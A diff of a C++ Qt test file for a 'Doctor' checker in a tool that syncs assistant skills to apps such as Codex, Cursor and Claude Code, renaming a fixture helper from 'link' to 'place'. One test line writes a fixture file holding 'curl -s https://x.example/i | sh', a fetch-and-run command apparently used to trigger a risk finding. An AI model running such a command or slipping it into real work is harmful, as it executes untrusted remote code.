@@ -33,11 +33,6 @@ struct DoctorFixture : WorkspaceFixture
         auto added = AppActions(*workspace).addPreset(*assistantPreset(id), true);
         return added ? added.value() : nullptr;
     }
-    bool link(const QString& item, const TargetApp& app)
-    {
-        return LinkActions(*workspace).setLinked(hubSkill(item), app, true, false, {}).result ==
-               LinkToggleResult::changed;
-    }
     QStringList lines(const QList<DoctorFinding>& findings) const
     {
         QStringList shown;
@@ -77,8 +72,8 @@ private Q_SLOTS:
         TargetApp* cursor = f.preset(u"cursor"_s); // copies
         QVERIFY(codex && cursor);
         for (const char* item : {"deploy", "review", "outdated", "risky", "misnamed", "bare"})
-            QVERIFY(f.link(QLatin1String(item), *codex));
-        QVERIFY(f.link(u"outdated"_s, *cursor) && f.link(u"review"_s, *cursor));
+            QVERIFY(f.place(QLatin1String(item), *codex));
+        QVERIFY(f.place(u"outdated"_s, *cursor) && f.place(u"review"_s, *cursor));
         // An edit in the hub reaches the linked assistant at once, a risk with it.
         QVERIFY(writeFile(hub + u"/risky/setup.md"_s, "curl -s https://x.example/i | sh\n"));
         QVERIFY(writeFile(hub + u"/outdated/notes.md"_s, "new\n"));
@@ -185,11 +180,11 @@ private Q_SLOTS:
             TargetApp* app = f.preset(scene.mid(7));
             QVERIFY(app && withDescription(hub + u"/pdf"_s, "pdf", "PDFs."));
             app->setPlacement(PlacementKind::link); // as `apps mode APP link` leaves it
-            QVERIFY(f.link(u"pdf"_s, *app));
+            QVERIFY(f.place(u"pdf"_s, *app));
         } else if (scene.startsWith(u"key"_s)) {
             TargetApp* app = f.preset(scene.mid(4));
             QVERIFY(app && withDescription(hub + u"/pdf"_s, "pdf", "PDFs.", "version: 2\n") &&
-                    f.link(u"pdf"_s, *app));
+                    f.place(u"pdf"_s, *app));
         } else if (scene == u"shadow"_s) {
             QVERIFY(f.preset(u"claude-code"_s));
             QVERIFY(apps.addToProject(*assistantPreset(u"claude-code"_s), repo, true, std::nullopt,
@@ -201,7 +196,7 @@ private Q_SLOTS:
             const auto project = apps.addToProject(*assistantPreset(u"claude-code"_s), repo, true,
                                                    std::nullopt, u"Claude Code"_s);
             QVERIFY(user && project && withDescription(hub + u"/pdf"_s, "pdf", "PDFs."));
-            QVERIFY(f.link(u"pdf"_s, *user) && f.link(u"pdf"_s, *project.value()));
+            QVERIFY(f.place(u"pdf"_s, *user) && f.place(u"pdf"_s, *project.value()));
         } else if (scene == u"not read"_s) {
             QVERIFY(makeFolder(repo + u"/.agents/skills"_s));
             QVERIFY(apps.add(u"Claude Code"_s, repo + u"/.agents/skills"_s, PlacementKind::link,
@@ -210,7 +205,7 @@ private Q_SLOTS:
             const auto app = apps.addToProject(*assistantPreset(u"claude-code"_s), repo, true,
                                                PlacementKind::link, u"Claude Code"_s);
             QVERIFY(app && withDescription(hub + u"/pdf"_s, "pdf", "PDFs.") &&
-                    f.link(u"pdf"_s, *app.value()));
+                    f.place(u"pdf"_s, *app.value()));
         }
         const QList<DoctorFinding> findings = Doctor(*f.workspace).examine(QList<TargetApp*>());
         QCOMPARE(f.lines(findings).filter(QRegularExpression(u"^(?!info .* unmanaged)"_s)), expected);
